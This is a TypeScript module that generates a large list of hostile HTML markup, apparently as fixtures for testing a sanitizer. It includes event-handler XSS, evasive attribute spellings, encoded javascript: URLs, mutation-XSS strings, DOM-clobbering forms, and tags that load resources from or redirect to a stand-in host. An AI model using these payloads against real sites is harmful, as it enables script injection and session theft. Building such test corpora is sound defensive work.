/** What a vector runs, when it can, and where it asks for something. */
const run = 'hit()';
export const stranger = 'https://stranger.example';

const product = <A, B>(first: readonly A[], second: readonly B[]) =>
  first.flatMap((a) => second.map((b) => [a, b] as const));

const reference = (text: string, write: (code: number) => string) =>
  [...text].map((letter) => write(letter.codePointAt(0) ?? 0)).join('');
const decimal = (text: string) => reference(text, (code) => `&#${code}`);
const padded = (text: string) => reference(text, (code) => `&#${String(code).padStart(7, '0')};`);
const hexadecimal = (text: string) => reference(text, (code) => `&#x${code.toString(16)};`);
const mixedCase = (text: string) =>
  [...text].map((letter, index) => (index % 2 ? letter : letter.toUpperCase())).join('');

const handlers = [
  ...[
    'error',
    'load',
    'focus',
    'blur',
    'click',
    'mouseover',
    'pointerenter',
    'animationstart',
    'transitionrun',
  ],
  ...[
    'toggle',
    'beforetoggle',
    'scroll',
    'wheel',
    'begin',
    'pageshow',
    'canplay',
    'loadstart',
    'input',
    'beforematch',
  ],
];
const carriers = [
  'img src=x',
  'svg',
  'video src=x',
  'details open',
  'input autofocus',
  'p style="animation:x 1s" tabindex=0',
];
const events = product(carriers, handlers).map(([tag, event]) => `<${tag} on${event}=${run}>x`);

/** Ways to write an attribute that an honest reader takes for something else. */
const spellings = [
  (attribute: string) => `<img/src=x/${attribute}>`,
  (attribute: string) => `<img\tsrc=x\f${attribute}\n>`,
  (attribute: string) => `<img src=x ${mixedCase(attribute)}>`,
  (attribute: string) => `<img src="x"${attribute}>`,
  (attribute: string) => `<img src=x alt="a"b" ${attribute}>`,
  (attribute: string) => `<img src=x alt='"> ${attribute} <p title='`,
  (attribute: string) => `<img src=\`x\` ${attribute}`,
  (attribute: string) => `<<img src=x ${attribute}>`,
  (attribute: string) => `<img\u0000 src=x \u0000${attribute}>`,
  (attribute: string) => `<img src=x ${attribute}//`,
  (attribute: string) => `<imgx src=x ${attribute}><IMG SRC=x ${attribute}>`,
  (attribute: string) =>
    `<img src=x:x ${attribute.replace('=', '\u00a0=')} ${attribute.replace('=', ' \n= ')}>`,
].map((spell) => spell(`onerror=${run}`));

const addresses = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  ` \t\n javascript:${run}`,
  `\u0001javascript:${run}`,
  `java\tscript:${run}`,
  `java&NewLine;script&colon;${run}`,
  decimal(`javascript:${run}`),
  padded(`javascript:${run}`),
  hexadecimal(`javascript:${run}`),
  `javascript://x/%0a${run}`,
  `vbscript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>`,
];
const sinks = [
  (address: string) => `<a href="${address}">x</a>`,
  (address: string) => `<iframe src="${address}"></iframe>`,
  (address: string) => `<object data="${address}"></object>`,
  (address: string) => `<embed src="${address}">`,
  (address: string) => `<svg><a xlink:href="${address}"><text>x</text></a></svg>`,
  (address: string) => `<math><mi href="${address}">x</mi></math>`,
  (address: string) => `<form action="${address}"><button formaction="${address}">x</button></form>`,
  (address: string) =>
    `<svg><animate attributeName=href values="${address}"/><set attributeName=onmouseover to="${run}"/></svg>`,
];
const links = product(sinks, addresses).map(([sink, address]) => sink(address));

const cores = [`<script>${run}</script>`, `<img src=x onerror=${run}>`];
/** Places whose content is read otherwise than elsewhere, by a parser or by the one after it. */
const wrappers = [
  ...[
    'textarea',
    'title',
    'style',
    'xmp',
    'noscript',
    'noembed',
    'noframes',
    'iframe',
    'plaintext',
    'select',
    'option',
  ],
  ...[
    'template',
    'svg',
    'math',
    'table',
    'svg><foreignObject',
    'svg><desc',
    'math><mtext',
    'math><annotation-xml',
  ],
];
const wrapped = product(wrappers, cores).flatMap(([place, core]) => [
  `<${place}>${core}</${place.split('><').at(-1)}>`,
  `<${place}><a title="</${place.split('><')[0]}>${core}">x</a>`,
]);
const mutations = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${cores[1]}">`,
  `<svg></p><style><g title="</style>${cores[1]}">`,
  `<form><math><mtext></form><form><mglyph><style></math>${cores[1]}`,
  `<svg><style>{font-family:'</style>${cores[1]}'}`,
  `<!--><img src=x onerror=${run}>-->`,
  `<!--!> ${cores[0]} --!>${cores[1]}`,
  `<!DOCTYPE x [<!ENTITY y "${cores[0]}">]>&y;`,
  `<?xml version="1.0"?><html:script xmlns:html="http://www.w3.org/1999/xhtml">${run}</html:script>`,
  `<![CDATA[<img src=x onerror=${run}>]]>`,
  `<svg><![CDATA[><image xlink:href="]]>${cores[1]}">`,
  `</p></div></main></body></html>${cores[0]}`,
  `<scr<script></script>ipt>${run}</script>`,
  `<p title="${'a'.repeat(9_000)}" onclick=${run}>x`,
  `&lt;img src=x onerror=${run}&gt;&amp;lt;script&amp;gt;`,
  `<b><p><b><p>${'<b><p>'.repeat(40)}${cores[1]}`,
  `<a><table><a href="javascript:${run}"><td><a>${cores[1]}`,
];

/** What asks another host, or changes the page, without any script. */
const silent = [
  ...['src', 'srcset', 'longdesc', 'dynsrc', 'lowsrc'].map(
    (name) => `<img ${name}="${stranger}/p.gif" alt="x">`,
  ),
  ...['background', 'cite', 'ping', 'manifest'].map(
    (name) => `<table ${name}="${stranger}/p"><td ${name}="${stranger}/p">x`,
  ),
  ...['stylesheet', 'preload', 'prefetch', 'icon', 'dns-prefetch'].map(
    (rel) => `<link rel="${rel}" as=image href="${stranger}/p">`,
  ),
  ...['video poster', 'audio src', 'track src', 'input type=image src', 'body background'].map(
    (tag) => `<${tag}="${stranger}/p">`,
  ),
  `<picture><source srcset="${stranger}/p"><img src="${stranger}/q"></picture>`,
  `<style>@import "${stranger}/p";*{background:url(${stranger}/q)}</style>`,
  `<p style="background:url(${stranger}/p);position:fixed;inset:0;z-index:9">x</p>`,
  `<div class="page-fade" id="main" style="display:none">x</div>`,
  `<svg><image href="${stranger}/p"/><use href="${stranger}/p#x"/><filter><feImage href="${stranger}/p"/></filter></svg>`,
  `<base href="${stranger}/"><a href="x">x</a>`,
  `<meta http-equiv="refresh" content="0;url=${stranger}/">`,
  `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
  `<iframe srcdoc="&lt;script&gt;${run}&lt;/script&gt;"></iframe>`,
  `<portal src="${stranger}/"></portal><fencedframe></fencedframe>`,
  `<object><param name=movie value="${stranger}/x.swf"></object><applet code="${stranger}/x"></applet>`,
  ...[
    'documentElement',
    'body',
    'getElementById',
    'cookie',
    '__next_f',
    'attributes',
    'parentNode',
    '__proto__',
  ].map(
    (name) =>
      `<form id="${name}" name="${name}"><input name="${name}"><img name="${name}" id="${name}" src=x></form>`,
  ),
  `<dialog open popover=auto id=error-words data-title="x">x</dialog><button popovertarget=x command=show-modal>x</button>`,
  `<x-box is="a" slot=x part=x exportparts=x contenteditable autofocus tabindex=1 accesskey=x draggable=true>x</x-box>`,
  `<template shadowrootmode=open><slot></slot>${cores[0]}</template>`,
];

/** Markup that wants to run something, to ask another host or to hold what a text may not hold. */
export const hostileMarkup: readonly string[] = [
  ...new Set([...events, ...spellings, ...links, ...wrapped, ...mutations, ...silent]),
];

/** Between two vectors in one text, so that none is part of what the one before has left open. */
export const ends = [
  ...[
    '--></script></style></textarea></title></xmp></noscript></noembed></noframes></iframe></template></select>',
  ],
  ...['</svg></math></object></video></audio></table></form></b></a></p>'],
].join('');
